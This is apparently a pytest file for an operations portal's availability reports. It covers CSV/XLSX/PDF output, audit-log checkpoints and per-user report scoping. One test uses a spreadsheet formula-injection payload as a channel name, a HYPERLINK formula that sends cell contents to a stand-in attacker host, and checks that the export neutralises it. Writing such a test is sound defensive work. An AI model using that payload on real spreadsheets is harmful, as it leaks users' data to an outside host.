"""Report files and jobs: CSV/XLSX parse back to the same numbers, the PDF renders with its Chinese title,
and the API job records the file's SHA-256 and the audit checkpoint in the audit log."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import subprocess
from datetime import date
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from ops_portal.availability.reports import TITLE, Attestation, read_csv_channels, render
from ops_portal.availability.service import ScopeFilter, compute_period, period_bounds
from tests.conftest import need_tool
from tests.portal.conftest import bearer

from .conftest import C2A, C2B, C3, EXPECTED, EXPECTED_RATE, seed_day, z

TZ = ZoneInfo("Asia/Shanghai")
ATT = Attestation("feedc0de", z(22, 0), "ab" * 32, "gbops/test/audit", 42, base64.b64encode(b"\x01" * 32).decode())


@pytest.fixture
async def day(registry):
    await seed_day(registry.sessionmaker)
    start, end, label = period_bounds("day", TZ, on=date(2026, 10, 21))
    return await compute_period(registry.sessionmaker, ScopeFilter(), start, end, kind="day", label=label, now=z(25, 0))


async def test_csv_and_xlsx_parse_back(day, tmp_path: Path) -> None:
    render(day, ATT, "csv", tmp_path / "r.csv")
    text = (tmp_path / "r.csv").read_text("utf-8-sig")
    assert text.startswith(f"# {TITLE}")
    assert "tree_size=42" in text and "ab" * 32 in text
    rows = {r["channel_id"]: r for r in read_csv_channels(text)}
    assert set(rows) == set(EXPECTED)
    for chan, exp in EXPECTED.items():
        for key, value in exp.items():
            assert float(rows[chan][key]) == pytest.approx(value, abs=1e-3), (chan, key)
        # every rate is a percentage (header marked "(%)"): online / (online + offline) x 100
        rate = exp["online_s"] / (exp["online_s"] + exp["offline_s"]) * 100
        assert float(rows[chan]["availability"]) == pytest.approx(rate, abs=1e-3), chan
    assert rows[C3]["availability"] == "100"  # never offline: 100, not 1.0
    assert "在线率(%) / availability (%)" in text.splitlines()[next(
        i for i, line in enumerate(text.splitlines()) if not line.startswith("#"))]
    summary_lines = dict(line[2:].split(": ", 1) for line in text.splitlines() if line.startswith("# ") and ": " in line)
    assert float(summary_lines["时间加权在线率(%) / time-weighted rate (%)"]) == pytest.approx(EXPECTED_RATE * 100,
                                                                                          abs=1e-4)
    assert summary_lines["考核值(%) / threshold (%)"] == "85"

    from openpyxl import load_workbook

    render(day, ATT, "xlsx", tmp_path / "r.xlsx")
    wb = load_workbook(tmp_path / "r.xlsx", read_only=True)
    assert wb.sheetnames == ["汇总 Summary", "点位 Channels", "离线记录 Outages", "平台停机 Platform down"]
    summary = {r[0]: r[1] if len(r) > 1 else None for r in wb["汇总 Summary"].iter_rows(values_only=True) if r}
    # XLSX rates: numeric cells of the ratio shown as percentages (Excel computes with the true value)
    assert summary["时间加权在线率(%) / time-weighted rate (%)"] == pytest.approx(EXPECTED_RATE)
    rate_cell = next(r[1] for r in wb["汇总 Summary"].iter_rows() if r and r[0].value and
                     str(r[0].value).startswith("时间加权在线率"))
    assert rate_cell.number_format == "0.00%"
    chans = list(wb["点位 Channels"].iter_rows(values_only=True))
    assert chans[0][10] == "在线率(%) / availability (%)"
    got = {r[1]: r for r in chans[1:]}
    for chan, exp in EXPECTED.items():
        assert got[chan][4] == pytest.approx(exp["online_s"]) and got[chan][5] == pytest.approx(exp["offline_s"])
        assert got[chan][8] == exp["outages"]
        assert got[chan][10] == pytest.approx(exp["online_s"] / (exp["online_s"] + exp["offline_s"]), abs=1e-6)
    assert [c.number_format for c in next(r for r in wb["点位 Channels"].iter_rows(min_row=2))][10] == "0.00%"
    outages = [r for r in wb["离线记录 Outages"].iter_rows(values_only=True)][1:]
    assert [(r[1], r[2], r[4]) for r in outages if r[1] == C2A] == [
        (C2A, "2026-10-21 08:00:00", 7200.0), (C2A, "2026-10-21 11:00:00", 3600.0)]  # local times
    assert sum(1 for r in outages if r[1] == C2B) == 1
    down = list(wb["平台停机 Platform down"].iter_rows(values_only=True))[1:]
    assert down == [("2026-10-21 10:00:00", "2026-10-21 11:00:00", 3600.0)]


async def test_xlsx_survives_control_characters_in_names(day, tmp_path: Path) -> None:
    """Channel names come from devices (a hostile one sends anything): a control character a worksheet cannot
    hold is replaced, and the report is still made."""
    from dataclasses import replace

    from openpyxl import load_workbook

    hostile = replace(day, channels=[replace(day.channels[0], name="门口\x01\x1f摄像机\x00")] + day.channels[1:])
    render(hostile, ATT, "xlsx", tmp_path / "r.xlsx")
    rows = list(load_workbook(tmp_path / "r.xlsx", read_only=True)["点位 Channels"].iter_rows(values_only=True))
    assert rows[1][2] == "门口\ufffd\ufffd摄像机\ufffd"


async def test_a_channel_named_like_a_formula_stays_text(day, tmp_path: Path) -> None:
    """A device may name its channel ``=HYPERLINK(...)``: the CSV writes it with a leading apostrophe (a
    spreadsheet shows it as text, never runs it) and the XLSX cell is a string, not a formula."""
    import csv
    from dataclasses import replace

    from openpyxl import load_workbook

    name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    hostile = replace(day, channels=[replace(day.channels[0], name=name)] + day.channels[1:])
    render(hostile, ATT, "csv", tmp_path / "r.csv")
    table = [line for line in (tmp_path / "r.csv").read_text("utf-8-sig").splitlines() if not line.startswith("#")]
    rows = list(csv.reader(table))
    assert rows[1][2] == "'" + name
    render(hostile, ATT, "xlsx", tmp_path / "r.xlsx")
    cell = load_workbook(tmp_path / "r.xlsx")["点位 Channels"].cell(row=2, column=3)
    assert cell.value == name and cell.data_type == "s"


def check_pdf(path: Path, tmp_path: Path) -> str:
    """Render the first two pages to PNG and return the PDF's text."""
    pdftoppm = need_tool("pdftoppm")
    pdftotext = need_tool("pdftotext")
    assert path.read_bytes().startswith(b"%PDF")
    subprocess.run([pdftoppm, "-png", "-r", "40", "-f", "1", "-l", "2", str(path), str(tmp_path / "page")], check=True)
    pngs = sorted(tmp_path.glob("page*.png"))
    assert len(pngs) == 2 and all(p.stat().st_size > 2000 for p in pngs)
    return subprocess.run([pdftotext, str(path), "-"], check=True, capture_output=True, text=True).stdout


async def test_pdf_renders_with_chinese_title(day, tmp_path: Path) -> None:
    path = tmp_path / "r.pdf"
    render(day, ATT, "pdf", path)
    text = await asyncio.to_thread(check_pdf, path, tmp_path)
    assert TITLE in text
    assert "tree_size=42" in text and ("ab" * 32) in text  # the attestation in the footer
    assert C2A in text and "94.94%" in text  # 75/79


# ---------------------------------------------------------------------------------------------- API jobs
async def wait_done(client, headers, report_id: str) -> dict:
    seen = []
    for _ in range(600):
        r = await client.get(f"/api/reports/{report_id}", headers=headers)
        assert r.status_code == 200, r.text
        body = r.json()
        seen.append(body["progress"])
        if body["state"] in ("done", "failed"):
            assert seen == sorted(seen)
            return body
        await asyncio.sleep(0.05)
    raise AssertionError("report did not finish")


async def test_report_job_records_sha256_and_checkpoint(audited) -> None:
    portal = audited
    await seed_day(portal.sessionmaker)
    await portal.add_user("ops")
    headers = bearer(await portal.login("ops"))
    r = await portal.client.post("/api/reports", headers=headers,
                                 json={"kind": "day", "date": "2026-10-21", "format": "csv"})
    assert r.status_code == 202, r.text
    rid = r.json()["id"]
    assert r.json()["state"] in ("queued", "running")
    body = await wait_done(portal.client, headers, rid)
    assert body["state"] == "done", body
    assert body["summary"]["time_weighted_rate"] == pytest.approx(EXPECTED_RATE)
    f = await portal.client.get(f"/api/reports/{rid}/file", headers=headers)
    assert f.status_code == 200 and f.headers["content-type"].startswith("text/csv")
    digest = hashlib.sha256(f.content).hexdigest()
    assert body["sha256"] == digest == f.headers["x-content-sha256"]
    # the audit entry: file hash, source digest and the checkpoint printed in the file
    size = await portal.audit.store.size()
    entries = [e async for e in portal.audit.store.iter_entries(0, size) if json.loads(e.data)["action"] == "report.export"]
    assert len(entries) == 1
    detail = json.loads(entries[0].data)["detail"]
    assert detail["sha256"] == digest and detail["source_sha256"] == body["source_sha256"]
    assert detail["checkpoint_size"] == body["checkpoint_size"] is not None
    cp_root_b64 = base64.b64encode(bytes.fromhex(body["checkpoint_root"])).decode()
    assert detail["checkpoint_root"] == cp_root_b64
    assert f"tree_size={body['checkpoint_size']} root={cp_root_b64}" in f.content.decode("utf-8-sig")
    # the checkpoint is a real one of the log: its root is the log's root at that size
    assert await portal.audit.root_at(body["checkpoint_size"]) == base64.b64decode(cp_root_b64)
    rows = read_csv_channels(f.content.decode("utf-8-sig"))
    assert len(rows) == 4
    r = await portal.client.get("/api/reports", headers=headers)
    assert r.json()["total"] == 1 and r.json()["items"][0]["file_url"] == f"/api/reports/{rid}/file"


async def test_scope_and_permission(portal) -> None:
    orgs = await seed_day(portal.sessionmaker)
    await portal.add_user("east", permissions={"report.read"}, org_nodes=[orgs["a"]])
    await portal.add_user("nobody", permissions={"device.read"})
    await portal.add_user("boss")
    east = bearer(await portal.login("east"))
    nobody = bearer(await portal.login("nobody"))
    boss = bearer(await portal.login("boss"))

    r = await portal.client.get("/api/availability/online-rate", headers=nobody)
    assert r.status_code == 403
    r = await portal.client.get("/api/availability/online-rate", headers=east)
    assert r.status_code == 200 and r.json()["channels_total"] == 2, r.text
    r = await portal.client.get("/api/availability/online-rate", params={"scope": "platform"}, headers=east)
    assert r.status_code == 403
    r = await portal.client.get("/api/availability/online-rate", params={"scope": "platform"}, headers=boss)
    assert r.json()["channels_total"] == 4 and r.json()["threshold"] == 0.85
    r = await portal.client.get("/api/availability/online-rate", params={"org_node_id": 9999}, headers=boss)
    assert r.status_code == 404

    q = {"from": "2026-10-21T00:00:00", "to": "2026-10-22T00:00:00"}  # local day
    r = await portal.client.get("/api/availability/channels", params=q, headers=east)
    assert r.status_code == 200, r.text
    assert {i["channel_id"] for i in r.json()["items"]} == {C2A, C2B}
    r = await portal.client.get("/api/availability/channels", params=q, headers=boss)
    body = r.json()
    assert body["total"] == 4 and body["summary"]["time_weighted_rate"] == pytest.approx(EXPECTED_RATE)
    assert body["summary"]["platform_down_s"] == 3600

    # east's report covers east's channels only; boss sees it, nobody else's reports are east's
    r = await portal.client.post("/api/reports", headers=east, json={"kind": "day", "date": "2026-10-21",
                                                                     "format": "xlsx"})
    rid = r.json()["id"]
    body = await wait_done(portal.client, east, rid)
    assert body["state"] == "done" and body["summary"]["channels"] == 2
    assert body["scope"]["user_scope_limited"] is True
    assert (await portal.client.get(f"/api/reports/{rid}", headers=boss)).status_code == 200
    r = await portal.client.post("/api/reports", headers=boss, json={"kind": "month", "month": "2026-10",
                                                                     "format": "csv"})
    boss_rid = r.json()["id"]
    await wait_done(portal.client, boss, boss_rid)
    assert (await portal.client.get(f"/api/reports/{boss_rid}", headers=east)).status_code == 404
    assert (await portal.client.get(f"/api/reports/{boss_rid}/file", headers=east)).status_code == 404
    assert (await portal.client.get("/api/reports", headers=east)).json()["total"] == 1
    assert (await portal.client.get("/api/reports", headers=boss)).json()["total"] == 2
